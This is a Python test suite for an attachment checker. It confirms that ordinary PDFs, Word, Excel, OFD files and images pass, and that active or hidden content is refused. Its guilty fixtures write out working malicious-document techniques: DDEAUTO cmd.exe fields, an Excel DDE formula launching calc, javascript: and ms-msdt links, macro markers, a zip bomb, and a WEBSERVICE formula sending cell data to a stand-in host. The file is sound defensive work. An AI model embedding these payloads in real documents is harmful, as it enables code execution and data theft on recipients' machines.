"""What an attachment holds besides what is read: each kind of it is refused by name, and ordinary documents pass (R11)."""

import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO
from struct import pack

import pytest
import xlwt
from openpyxl import Workbook
from openpyxl.chart import BarChart
from xlwt.CompoundDoc import XlsDoc

from console.domain.requests.document_check import refused
from console.domain.requests.document_contents import _PIECE as PIECE
from console.locale import words
from tests.documents import PNG, PROGRAM, WORD, docx, ofd, old, pdf, relation, stream, zipped

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
MACROS = WORD.replace("openxmlformats-officedocument.wordprocessingml", "ms-word").replace(
    "main", "macroEnabled.main"
)
RELS = "word/_rels/document.xml.rels"


SVG = '<Default Extension="svg" ContentType="image/svg+xml"/>'


def workbook(*formulas: str) -> bytes:
    """A workbook as openpyxl writes it, with a chart, a link and these formulas."""
    book, file = Workbook(), BytesIO()
    sheet = book.create_sheet("one")
    sheet["A1"] = "批准"
    sheet["A1"].hyperlink = "https://bank.cn"
    sheet.add_chart(BarChart(), "C3")
    for nth, formula in enumerate(formulas, 2):
        sheet.cell(nth, 2).value = formula
    book.save(file)
    return file.getvalue()


def old_workbook(change: Callable[[bytes], bytes] = bytes) -> bytes:
    """A workbook of Excel 97 to 2003 whose cell I134 has the sum 4,200,000, its records perhaps changed."""
    book, file = xlwt.Workbook(), BytesIO()
    book.add_sheet("one").write(133, 8, 4_200_000)
    written = book.get_biff_data()
    assert b"\x85\0\x08\0" in written
    XlsDoc().save(file, change(written))
    return file.getvalue()


def macro_sheet(written: bytes) -> bytes:
    """The list of sheets calls its first one a macro sheet."""
    at = written.find(b"\x85\0", 512)
    while written[at + 8 : at + 10] != b"\0\0" or written[at + 3] != 0:
        at = written.find(b"\x85\0", at + 1)
    return written[: at + 9] + b"\x01" + written[at + 10 :]


def macros_inside(written: bytes) -> bytes:
    """The second BOF, which is the sheet's, says that it is one of macros."""
    at = written.find(b"\x09\x08", 8)
    return written[: at + 6] + b"\x40" + written[at + 7 :]


def behind_first(record: bytes) -> Callable[[bytes], bytes]:
    """Put a record behind the first; places of sheets move with it."""

    def changed(written: bytes) -> bytes:
        first = 4 + int.from_bytes(written[2:4], "little")
        longer = bytearray(written[:first] + record + written[first:])
        at = first + len(record)
        while (kind := int.from_bytes(longer[at : at + 2], "little")) != 0x000A:
            if kind == 0x0085:
                start = int.from_bytes(longer[at + 4 : at + 8], "little") + len(record)
                longer[at + 4 : at + 8] = start.to_bytes(4, "little")
            at += 4 + int.from_bytes(longer[at + 2 : at + 4], "little")
        return bytes(longer)

    return changed


def supbook(source: str) -> bytes:
    body = pack("<HHB", 0, len(source), 0) + source.encode("latin-1")
    return pack("<HH", 0x01AE, len(body)) + body


def bomb() -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("OFD.xml", "<a/>")
        archive.writestr("a.xml", b" " * (60 << 20))
    return file.getvalue()


def locked() -> bytes:
    data = bytearray(docx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def overlapped() -> bytes:
    """An archive whose directory passes over a part that lies there."""
    whole = docx(more={"word/aa.xml": "<a/>"})
    shorter = bytearray(whole)
    at = whole.find(b"PK\x01\x02", whole.find(b"PK\x01\x02") + 1)
    after = whole.find(b"PK\x01\x02", at + 1)
    del shorter[at:after]
    end = shorter.find(b"PK\x05\x06")
    (count,) = (shorter[end + 8],)
    shorter[end + 8] = shorter[end + 10] = count - 1
    size = int.from_bytes(shorter[end + 12 : end + 16], "little") - (after - at)
    shorter[end + 12 : end + 16] = size.to_bytes(4, "little")
    return bytes(shorter)


INNOCENT = {
    "a PDF with a link and a page to open": pdf(),
    "a form without a script": pdf(b"<</AcroForm<</Fields[]>>/T(name)/FT/Tx/AA<<>>>>"),
    "compressed objects": pdf(stream(b"4 0 <</Type/Font>>")),
    "a page's own text": pdf(stream(b"1 0 0 1 72 720 cm BT (JavaScript) Tj ET", b"/Filter/FlateDecode")),
    "a name that only begins alike": pdf(b"<</JavaScripts 1/Encryption 2/Launched 3>>"),
    "two saves": pdf() + pdf()[9:],
    "blanks behind": pdf(behind=b"\r\n\0\0 "),
    "a short PDF": b"%PDF-1.7 approved",
    "links as programs write them": pdf(
        b"<< /Type /Action /S /URI /URI (https://bank.cn/setup.exe) >>",
        b"<</S/URI/URI(mailto:a@bank.cn)>>",
        b"<</S/URI/URI(www.bank.com)>>",
        b"<</S/URI/URI(bank.cn:8080/a)>>",
        b"<</S/URI/URI(file:///C:/Users/a/%E9%99%84%E4%BB%B6.docx)>>",
        b"<</S/GoToR/F(annex.pdf)/D[0/Fit]>>",
        b"<</URI<</Base(https://bank.cn/)>>/X(https://bank.cn/URI%20a)>>",
        b"<</FT /Tx /F  5 0 R /UF <FEFF0061002E007000640066>>>",
    ),
    "many links": pdf(*(b"<</S/URI/URI(https://bank.cn/%d)>>" % nth for nth in range(3_000))),
    "Word with a picture and a link": docx(),
    "a field of Word": docx('<w:fldSimple w:instr=" PAGE "/><w:instrText>HYPERLINK "http://a.cn/dde x"</w:instrText>'),
    "fields that take in nothing": docx(
        '<w:fldSimple w:instr=" TOC \\o 1-3 \\h "/><w:fldSimple w:instr=" REF DATABASE1 "/>'
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;C:\\\\Temp\\\\ksohtml\\\\wps1.png&quot; \\* MERGEFORMATINET "/>'
    ),
    "fields of links in the contents of Word": docx(
        '<w:fldChar w:fldCharType="begin"/><w:instrText> TOC \\o "1-3" \\h </w:instrText><w:fldChar w:fldCharType="separate"/>'
        '<w:fldChar w:fldCharType="begin"/><w:instrText> HYPERLINK \\l "_Toc1" </w:instrText><w:fldChar w:fldCharType="separate"/>'
        '<w:fldChar w:fldCharType="begin"/><w:instrText> PAGEREF _Toc1 \\h </w:instrText><w:fldChar w:fldCharType="end"/>'
        '<w:fldSimple w:instr=" HYPERLINK &quot;https://bank.cn/a&quot; \\o &quot;Note: open a.exe&quot; \\t _blank \\* MERGEFORMAT "/>'
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;C:\\\\a b\\\\c.png&quot; \\* MERGEFORMAT \\d "/>'
    ),
    "a drawing that moves": docx(types=SVG, more={"word/media/a.svg": '<svg xmlns="urn:s" xmlns:x="urn:x"><use x:href="#a"/>'
        '<animate attributeName="x" values="0;10;0" from="0" to="10"/><image href="data:image/png;base64,iVBORw0KGgo="/></svg>'}),
    "a formula's link in pieces": workbook('=HYPERLINK("https://bank.cn/"&"a","x")', '=HYPERLINK("#"&A1,"x")'),
    "what is said of a document": docx(more={"docProps/custom.xml": '<Properties xmlns="u"><property name="KSOProductBuildVer"/></Properties>'}),
    "a stream of numbers with a count": pdf(stream(b"1 0 0 rg", b"/N 3/Filter/FlateDecode")),
    "links of Word to files beside it": docx(more={RELS: relation("hyperlink", "file:///C:/a/%E9%99%84%E4%BB%B6.docx", external=True)}),
    "a link of Word without a scheme": docx(more={RELS: relation("hyperlink", "www.bank.com", external=True)}),
    "a drawing": docx(types=SVG, more={"word/media/a.svg": '<svg xmlns="urn:s"><a href="https://bank.cn"><path d="M0 0"/></a></svg>'}),
    "formulas": workbook('=HYPERLINK("https://bank.cn","x")', '=IF(A1="a|b!c",SUM(\'a|b\'!B1:B2),"CALL(95588)")', "=INDIRECT(A1)"),
    "an invoice's own data in an OFD": ofd({"Attachments.xml": "<o:Attachments xmlns:o='u'><o:Attachment Name='original_invoice' Format='xml'/></o:Attachments>"}),
    "a page of an OFD with a link": ofd({"Page.xml": "<o:Action xmlns:o='u'><o:URI URI='https://tax.cn'/></o:Action>"}),
    "Excel with a chart": workbook(),
    "Word with a chart and its workbook": docx(
        types='<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
        more={"word/embeddings/Sheet1.xlsx": workbook()},
    ),
    "a signed OFD": ofd(),
    "a picture": PNG,
    "a scan that is only begun": b"\x89PNG\r\n\x1a\n" + bytes(40_000),
    "a photograph with something of the telephone behind": b"\xff\xd8\xff\xe0" + bytes(100) + b"\xff\xd9SEFH" + bytes(40),
    "old Word": old("WordDocument", "1Table", "\x05SummaryInformation"),
    "old Excel with a sum that looks like a macro sheet": old_workbook(),
    "old Excel that names another workbook": old_workbook(behind_first(supbook("\x01\x01C\x03a.xls"))),
    "old Excel with sums in every cell there": old_workbook(
        behind_first(pack("<HH", 0x00EB, 2048) + (b"\x85\0\x08\0\0\0\0\0\0\x01\x2f\0\x13 DDE ") * 128)
    ),
    "old Excel": old("Workbook", streams=b"\x09\x08\x10\0" + bytes(16) + b"\x85\0\x0e\0\0\0\0\0\0\0\x06\0Sheet1"),
}  # fmt: skip

GUILTY = {
    "script: in clear": ("script", pdf(SCRIPT)),
    "script: escaped name": ("script", pdf(b"<</S/J#61vaScr#69pt/JS(x)>>")),
    "script: compressed": ("script", pdf(stream(b"4 0 " + SCRIPT))),
    "script: compressed and not said to be objects": ("script", pdf(stream(b"4 0 " + SCRIPT, b"/Filter/FlateDecode"))),
    "script: compressed, its type escaped": ("script", pdf(stream(b"%x\n4 0 " + SCRIPT, b"/Type/#4fbjStm/Filter[/FlateDecode]"))),
    "script: damaged stream": ("script", pdf(stream(b"", packed=zlib.compress(b"4 0 " + SCRIPT + b" " * 900)[:-6]))),
    "script: objects in a form": ("script", pdf(b"<</AcroForm<</XFA 9 0 R>>>>")),
    "script: in a picture of an OFD": ("script", ofd({"a.svg.xml": "<svg:svg xmlns:svg='urn:s'><svg:script/></svg:svg>"})),
    "unreadable: filters": ("unreadable", pdf(stream(b"4 0 x", b"/Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]"))),
    "unreadable: predictor": ("unreadable", pdf(stream(b"4 0 x", b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>"))),
    "unreadable: hidden dictionary": ("unreadable", pdf(stream(b"4 0 x", b"/Type/ObjStm/X(obj)/Filter/LZWDecode"))),
    "unreadable: no such compression": ("unreadable", pdf(stream(b"", packed=b"nothing"))),
    "program: a PDF's link to a script": ("program", pdf(b"<</S/URI/URI(javascript:alert\\(1\\))>>")),
    "program: a PDF's link in octal signs": ("program", pdf(b"<</S/URI/URI(\\152avascript:1)>>")),
    "program: a PDF's link in digits": ("program", pdf(b"<</S/URI /URI <6A6176617363726970743A31>>>")),
    "program: a PDF's link to a program": ("program", pdf(b"<</S/URI/URI(file:///c:/windows/system32/cmd.exe)>>")),
    "program: a PDF's link in compressed objects": ("program", pdf(stream(b"4 0 <</S/URI/URI(ms-msdt:/id)>>"))),
    "unreadable: a PDF's link elsewhere": ("unreadable", pdf(b"<</S/URI/URI 9 0 R>>")),
    "unreadable: a PDF's link far from its name": ("unreadable", pdf(b"<</S/URI/URI" + b" " * 3000 + b"(javascript:1)>>")),
    "unreadable: a remark before a PDF's link": ("unreadable", pdf(b"<</S/URI/URI%x\n(javascript:1)>>")),
    "outside: a PDF's link to a share": ("outside", pdf(b"<</S/URI/URI(\\\\\\\\host\\\\a)>>")),
    "outside: another PDF on a share": ("outside", pdf(b"<</S/GoToR/F<</UF(//host/share/a.pdf)>>>>")),
    "outside: a stream that lies elsewhere": ("outside", pdf(b"<</Length 0/F(\\\\\\\\host\\\\a)>>stream\n\nendstream")),
    "embedded: a file without its type": ("embedded", pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>")),
    "embedded: a file without its type, elsewhere": ("embedded", pdf(b"<</Type/Filespec/F(a.exe)/EF 7 0 R>>")),
    "excessive: links": ("excessive", pdf(b"/F(a" * 50_000)),
    "program: launched": ("program", pdf(b"<</S/Launch/F(cmd.exe)>>")),
    "embedded: a file": ("embedded", pdf(b"<</Names<</EmbeddedFiles<<>>>>>>")),
    "embedded: media": ("embedded", pdf(b"<</Subtype/RichMedia>>")),
    "outside: a form that is sent": ("outside", pdf(b"<</S/SubmitForm>>")),
    "encrypted: PDF": ("encrypted", pdf(trailer=b"/Encrypt 9 0 R")),
    "embedded: a file in compressed objects": ("embedded", pdf(stream(b"4 0 <</Type/EmbeddedFile>>"))),
    "excessive: PDF": ("excessive", pdf(stream(b"4 0 " + b" " * (65 << 20)))),
    "hidden: behind a PDF": ("hidden", pdf(behind=b"<html>")),
    "hidden: an archive behind a PDF": ("hidden", pdf()[:-6] + zipped({"a.class": b"x"})),
    "program: behind a PDF": ("program", pdf(b"<<>>" + PROGRAM)),
    "macro: a document's type": ("macro", docx(main=MACROS)),
    "macro: a project": ("macro", docx(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>', more={"word/x.bin": b"x"})),
    "macro: a project under another type": ("macro", docx(types='<Default Extension="bin" ContentType="image/x"/>', more={"word/vbaProject.bin": b"x"})),
    "macro: by relation": ("macro", docx(more={RELS: relation("vbaProject", "x.bin")})),
    "macro: upper case": ("macro", docx(more={RELS: relation("VBAProject", "x.bin")})),
    "embedded: an object": ("embedded", docx(more={RELS: relation("oleObject", "embeddings/oleObject1.bin")})),
    "embedded: an object's octets": ("embedded", docx(types='<Default Extension="bin" ContentType="image/x"/>', more={"word/a.bin": old()})),
    "embedded: a control": ("embedded", docx(types='<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>')),
    "embedded: a page": ("embedded", docx(more={RELS: relation("aFChunk", "a.htm")})),
    "embedded: no type": ("embedded", docx(more={"word/notes.dat": b"x"})),
    "embedded: an archive in a chart's workbook": ("embedded", docx(
        types='<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
        more={"word/a.xlsx": docx(types='<Default Extension="zip" ContentType="image/x"/>', more={"a.zip": zipped({"a": b"x"})})})),
    "program: in Word": ("program", docx(types='<Default Extension="exe" ContentType="image/png"/>', more={"word/media/a.exe": PROGRAM})),
    "program: called a picture": ("program", docx(more={"word/media/image2.png": PROGRAM})),
    "program: behind a picture": ("program", docx(more={"word/media/image2.png": PNG + PROGRAM})),
    "program: DDE": ("program", docx('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>')),
    "program: DDE in pieces": ("program", docx(
        '<w:fldChar w:fldCharType="begin"/><w:instrText> D</w:instrText><w:instrText>&#68;E</w:instrText><w:instrText>AUTO x</w:instrText>')),
    "program: DDE in UTF-16": ("program", docx(more={"word/document.xml": '<?xml version="1.0" encoding="UTF-16"?><w:f xmlns:w="urn:w"><w:fldSimple w:instr="dde x"/></w:f>'.encode("utf-16")})),
    "program: a link": ("program", docx(more={RELS: relation("hyperlink", "ms-msdt:/id", external=True)})),
    "program: a link to a program": ("program", docx(more={RELS: relation("hyperlink", "file:///c:/a%2eexe", external=True)})),
    "program: a formula's link": ("program", workbook('=HYPERLINK("C:\\a\\a.exe","x")')),
    "program: DDE in a formula": ("program", workbook("=cmd|'/c calc'!A0")),
    "program: a formula that starts one": ("program", workbook('=1+RTD("a.b","","x")')),
    "program: a name that starts one": ("program", docx(more={"word/names.xml": "<definedName>EXEC(&quot;calc&quot;)</definedName>"})),
    "program: a page of an OFD": ("program", ofd({"Page.xml": "<o:Action xmlns:o='u'><o:URI URI='javascript:alert(1)'/></o:Action>"})),
    "program: a file in an OFD": ("program", ofd({"Attachments.xml": "<o:Attachment xmlns:o='u' Name='a.vbs'><o:FileLoc>x.dat</o:FileLoc></o:Attachment>"})),
    "program: a link by a field": ("program", docx('<w:fldSimple w:instr=" HYPERLINK &quot;javascript:a()&quot; "/>')),
    "program: a link by a locked field": ("program", docx('<w:fldSimple w:fldLock="1" w:instr=" HYPERLINK \\h file:///c:/windows/calc.exe "/>')),
    "program: a link by a field in pieces": ("program", docx(
        '<w:fldChar w:fldCharType="begin"/><w:instrText> HYPERLINK "ms-</w:instrText><w:instrText>msdt:/id"</w:instrText>')),
    "outside: a share by a field": ("outside", docx('<w:fldSimple w:instr=" HYPERLINK &quot;\\\\1.2.3.4\\a&quot; "/>')),
    "outside: a picture by a field behind a switch": ("outside", docx('<w:fldSimple w:instr=" INCLUDEPICTURE \\d &quot;http://a.cn/a.png&quot; "/>')),
    "outside: a text by a field behind a converter": ("outside", docx('<w:fldSimple w:instr=" INCLUDETEXT \\c XML &quot;https://a.cn/a&quot; "/>')),
    "outside: a picture that another field names": ("outside", docx(
        '<w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDEPICTURE </w:instrText>'
        '<w:fldChar w:fldCharType="begin"/><w:instrText> QUOTE "http://a.cn/a.png" </w:instrText>')),
    "program: DDE in a locked field": ("program", docx('<w:fldSimple w:fldLock="1" w:instr=" DDEAUTO c:\\\\cmd.exe "/>')),
    "program: a formula's link in pieces": ("program", workbook('=HYPERLINK("file:///c:/a"&".e" & "xe","x")')),
    "macro: of WPS": ("macro", docx(types='<Default Extension="bin" ContentType="application/vnd.wps-officedocument.jdeExtension"/>', more={"xl/a.bin": b"x"})),
    "macro: of WPS by name": ("macro", docx(types='<Default Extension="bin" ContentType="image/x"/>', more={"xl/JDEData.bin": b"x"})),
    "macro: of WPS by relation": ("macro", docx(more={RELS: '<Relationships xmlns="u"><Relationship Id="r" '
        'Type="http://www.wps.cn/officeDocument/2018/jdeExtension" Target="a.bin"/></Relationships>'})),
    "macro: of old WPS": ("macro", old("Workbook", "JDEData")),
    "macro: a ribbon": ("macro", docx(more={"customUI/customUI14.xml": '<customUI xmlns="u" onLoad="a"/>'})),
    "outside: a program of a document": ("outside", docx(more={"docProps/custom.xml": '<Properties xmlns="u"><property name="_AssemblyLocation"/></Properties>'})),
    "program: a drawing that moves to a link": ("program", docx(types=SVG, more={"word/media/a.svg": '<svg xmlns="urn:s"><a><animate attributeName="href" values="#a;javascript:a()"/></a></svg>'})),
    "outside: a drawing with a picture elsewhere": ("outside", docx(types=SVG, more={"word/media/a.svg": '<svg xmlns="urn:s"><image href="http://a.cn/a.png"/></svg>'})),
    "program: the base of a PDF's links": ("program", pdf(b"<</URI<</Base(javascript:)>>>>")),
    "unreadable: objects whose type lies elsewhere": ("unreadable", pdf(stream(b"4 0 x", b"/Type 4 0 R/N 1/First 4/Filter/ASCIIHexDecode"))),
    "unreadable: objects without a type": ("unreadable", pdf(stream(b"4 0 x", b"/N 1 /First 4/Filter[/ASCII85Decode/FlateDecode]"))),
    "script: a drawing that acts": ("script", docx(types=SVG, more={"word/media/a.svg": '<svg xmlns="urn:s" onload="a()"/>'})),
    "program: a drawing's link": ("program", docx(types=SVG, more={"word/media/a.svg": '<svg xmlns="urn:s"><a href="java\tscript:a()"/></svg>'})),
    "hidden: an archive behind a picture of Word": ("hidden", docx(more={"word/media/image2.png": PNG + zipped({"a.txt": b"x"})})),
    "outside: a link to a share": ("outside", docx(more={RELS: relation("hyperlink", "\\\\host\\a", external=True)})),
    "outside: a link to a share by slashes": ("outside", docx(more={RELS: relation("hyperlink", "file:////host/a", external=True)})),
    "outside: a picture by a field": ("outside", docx('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://a.cn/a.png&quot; \\d "/>')),
    "outside: a text by a field": ("outside", docx('<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\host\\\\a&quot; "/>')),
    "outside: a field of a database": ("outside", docx('<w:instrText>x</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>DATA</w:instrText><w:instrText>BASE \\d "x"</w:instrText>')),
    "outside: a formula that asks a page": ("outside", workbook('=_xlfn.WEBSERVICE("http://a.cn/"&A2)')),
    "outside: a template": ("outside", docx(more={RELS: relation("attachedTemplate", "https://a.cn/a.dotm", external=True)})),
    "outside: a picture": ("outside", docx(more={RELS: relation("image", "https://a.cn/a.png", external=True)})),
    "outside: another workbook": ("outside", docx(more={RELS: relation("externalLink", "externalLinks/externalLink1.xml")})),
    "unreadable: entities": ("unreadable", docx(more={"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})),
    "encrypted: Word": ("encrypted", locked()),
    "hidden: behind Word": ("hidden", docx() + b"more"),
    "hidden: between the parts": ("hidden", overlapped()),
    "program: a jar as OFD": ("program", zipped({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})),
    "program: a jar that is an OFD too": ("program", ofd({"A.dat": b"\xca\xfe\xba\xbe\0\0\0\x34"})),
    "program: Linux": ("program", ofd({"a.dat": b"\x7fELF\x02\x01\x01\0"})),
    "program: a shell's": ("program", ofd({"a.dat": b"#!/bin/sh\n"})),
    "embedded: an archive in an OFD": ("embedded", ofd({"a.dat": zipped({"a": b"x"})})),
    "embedded: any archive": ("embedded", zipped({"a.txt": b"x"})),
    "embedded: what no OFD holds": ("embedded", ofd({"a.docm2": b"x"})),
    "excessive: a bomb": ("excessive", bomb()),
    "unreadable: half an archive": ("unreadable", docx()[:-30]),
    "macro: old Word": ("macro", old("WordDocument", "Macros", "VBA")),
    "macro: a sheet of old Excel": ("macro", old("Workbook", streams=b"\x85\0\x0e\0\0\0\0\0\0\x01\x06\0Macro1")),
    "macro: a sheet of a whole old workbook": ("macro", old_workbook(macro_sheet)),
    "macro: a sheet that says so itself": ("macro", old_workbook(macros_inside)),
    "encrypted: a whole old workbook": ("encrypted", old_workbook(behind_first(b"\x2f\0\x36\0" + bytes(54)))),
    "program: data from a running one in an old workbook": ("program", old_workbook(behind_first(supbook("cmd\x03/c calc")))),
    "unreadable: a compound file that is no document": ("unreadable", old("__nameid_version1.0", "__substg1.0_0037001F")),
    "embedded: a formula editor's object": ("embedded", old("WordDocument", "Equation Native")),
    "embedded: old Word": ("embedded", old("WordDocument", "ObjectPool", "\x01Ole10Native")),
    "encrypted: old Excel": ("encrypted", old("Workbook", streams=b"\x09\x08\x10\0" + bytes(16) + b"\x2f\0\x36\0")),
    "encrypted: old Word": ("encrypted", old("WordDocument", streams=b"\xec\xa5\xc1\0" + bytes(6) + b"\0\x13")),
    "encrypted: new Word": ("encrypted", old("EncryptedPackage", "EncryptionInfo")),
    "program: DDE in old Word": ("program", old("WordDocument", streams="\x13 DDEAUTO cmd".encode("utf-16-le"))),
    "excessive: a picture of millions": ("excessive", b"\x89PNG\r\n\x1a\n" + pack(">I4sII", 13, b"IHDR", 0xFFFFFFFF, 0xFFFFFFFF)),
    "hidden: an archive behind a picture": ("hidden", PNG + zipped({"a": b"x"})),
    "hidden: an archive in a photograph": ("hidden", b"\xff\xd8\xff\xe0" + bytes(50) + zipped({"a": b"x"})),
    "hidden: a page in a picture": ("hidden", b"GIF89a\1\0\1\0/*<ScRiPt>*/"),
    "program: in a photograph": ("program", b"\xff\xd8\xff\xe0" + PROGRAM),
}  # fmt: skip


@pytest.mark.parametrize("name", INNOCENT)
def test_what_is_only_read_passes(name: str) -> None:
    assert refused("a", INNOCENT[name]) is None


@pytest.mark.parametrize("name", GUILTY)
def test_what_acts_hides_or_cannot_be_checked_is_refused_by_name(name: str) -> None:
    content, data = GUILTY[name]
    refusal = refused("a", data)
    assert refusal is not None
    assert (refusal.params["content"], refusal.clause) == (content, "R11")
    unchecked = content in {"encrypted", "unreadable", "excessive"}
    assert refusal.code == ("document_unchecked" if unchecked else "document_active")


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7 " + b"stream\n" * 1_100_000,
        b"%PDF-1.7 " + b"/ObjStm obj stream\r" * 400_000,
        b"%PDF-1.7 " + b"#4a#4A/#" * 1_000_000,
        b"%PDF-1.7 " + b"MZ" * 4_000_000,
        b"%PDF-1.7 " + b"PK\x05\x06" * 2_000_000,
        b"%PDF-1.7 1 0 obj<</Filter/FlateDecode>>stream\n" + zlib.compress(b"1 " * 30_000_000),
        old("PowerPoint Document", streams=b"\x13 " * 3_000_000),
        zipped({"OFD.xml": "<a>" + "<b/>" * 4_000_000 + "</a>"}),
        b"%PDF-1.7 " + (b"stream\n" + zlib.compress(b"x" * 600_000)[:400]) * 19_000,
        old_workbook(lambda written: written + bytes(7_000_000)),
        old_workbook(behind_first(b"\x55\x55\0\0" * 1_500_000)),
    ],
    ids=["streams", "objects", "escapes", "programs", "ends", "inflated", "fields", "elements", "beginnings", "behind", "records"],
)  # fmt: skip
def test_a_hostile_document_is_judged_within_seconds(data: bytes) -> None:
    began = time.process_time()
    refused("a", data)
    assert time.process_time() - began < 8


def test_a_name_that_is_cut_between_two_pieces_is_found() -> None:
    for name in (b"/JavaScript ", b"/#4aava#53cript ", b"/#45#6d#62#65#64#64#65#64#46#69#6c#65#73>"):
        for at in range(PIECE - len(name) - 1, PIECE + 2):
            clear, packed = b" " * at + name, b"4 0 " + b" " * (at - 4) + name
            for data in (b"%PDF-1.7\n" + clear[9:] + b" %%EOF", pdf(stream(packed))):
                assert refused("a", data) is not None, (name, at)


@pytest.mark.parametrize("name", ["JavaScripts", "Encryption", "EmbeddedFilesX"])
def test_a_longer_name_that_is_cut_between_two_pieces_is_another(name: str) -> None:
    longer = b"/" + name.encode() + b" "
    for at in range(PIECE - len(longer) - 1, PIECE + 2):
        clear, packed = b" " * at + longer, b"4 0 " + b" " * (at - 4) + longer
        for data in (b"%PDF-1.7\n" + clear[9:] + b" %%EOF", pdf(stream(packed))):
            assert refused("a", data) is None, at


def test_what_is_inflated_is_never_in_memory_at_once() -> None:
    data = pdf(stream(b"4 0 " + b"<</Type/Font>>\n" * 4_000_000))
    tracemalloc.start()
    try:
        assert refused("a", data) is None
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert most < 8 * 1024 * 1024


@pytest.mark.parametrize(
    "written",
    [
        b"(\xe5\x8f\x91\xe7\xa5\xa8.xml)",
        b"(\\376\\377\\123\\321\\171\\150\\000.\\000x\\000m\\000l)",
        b"<FEFF 53D1 7968 002E 0078 006D 006C>",
    ],
)
def test_files_in_an_invoice_are_named_with_the_way_out(written: bytes) -> None:
    objects = b"<</Type/Filespec/AFRelationship/Source/UF %s/F(a.xml)/EF<</F 9 0 R>>>>" % written
    for data in (
        pdf(objects, b"<</EmbeddedFiles 8 0 R>>"),
        pdf(stream(b"4 0 " + objects), stream(b"5 0 <</EmbeddedFiles 8 0 R>>")),
    ):
        refusal = refused("发票.pdf", data)
        assert refusal is not None
        what, _, onward = words.explain(refusal, "zh")
        assert "嵌入的其他文件" in what
        assert "发票.xml a.xml" in what
        assert "打印成新的 PDF" in onward
